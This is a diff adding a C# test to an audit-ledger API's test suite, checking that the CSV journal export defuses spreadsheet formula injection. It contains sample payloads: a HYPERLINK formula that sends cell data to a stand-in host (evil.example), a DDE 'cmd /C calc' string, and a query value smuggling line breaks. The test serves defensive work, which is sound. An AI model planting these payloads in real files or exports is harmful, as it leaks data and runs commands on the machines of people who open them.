@@ -139,6 +139,38 @@ public sealed class AuditQueryTests(DatabaseFixture db) : DatabaseTest(db)
         (await l.Auditor.GetAsync("/api/v1/audit/journal?format=csv")).ExpectProblem(HttpStatusCode.UnprocessableEntity, "programmeId");
     }
 
+    /// <summary>
+    /// CSV injection: an allocation's description is typed by a person and becomes its entry's, so it reaches the
+    /// auditor's CSV. Opened in a spreadsheet, the file runs nothing: a description a spreadsheet would take for a
+    /// formula has an apostrophe before it, and a line break sent in the query cannot start a line of its own among
+    /// the comment lines.
+    /// </summary>
+    [Fact]
+    public async Task Journal_AsCsv_RunsNothingInASpreadsheet_WhateverADescriptionOrTheQuerySays()
+    {
+        var l = await LedgerAsync();
+        const string link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the evidence\")", dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+        foreach (var description in new[] { link, dde })
+            (await l.S.Root.PostAsync($"{l.S.Year}/allocations", new
+            {
+                valueDate = "2026-09-20", description,
+                lines = new[] { new { schoolId = l.S.Schools[3].Id, categoryId = l.S.Categories["action-plan"], amount = "1.00" } },
+            })).Expect(HttpStatusCode.Created);
+
+        var json = (await l.Auditor.GetAsync(l.Journal("&limit=1000"))).Expect(HttpStatusCode.OK).Json["items"]!.AsArray();
+        Assert.Contains(json, x => x!["description"]!.GetValue<string>() == link); // stored and answered as typed
+
+        var csv = (await l.Auditor.GetAsync(l.Journal("&format=csv"))).Expect(HttpStatusCode.OK).Body;
+        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open the evidence\"\")\",", csv);
+        Assert.Contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", csv);
+
+        var lines = (await l.Auditor.GetAsync(l.Journal("&format=csv&accountPrefix=tp%0D%0A=1%2B1%0A-2%2B3"))).Expect(HttpStatusCode.OK).Body
+            .Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal("transfer_id,", lines[^1][.."transfer_id,".Length]); // no account has that prefix: the header ends the file
+        Assert.All(lines[..^1], x => Assert.StartsWith("# ", x));
+        Assert.Contains("# accountPrefix: tp =1+1 -2+3", lines);
+    }
+
     [Fact]
     public async Task Balances_AsOfADate_AsTheLedgerSaidThen_AndAsWeNowKnow()
     {
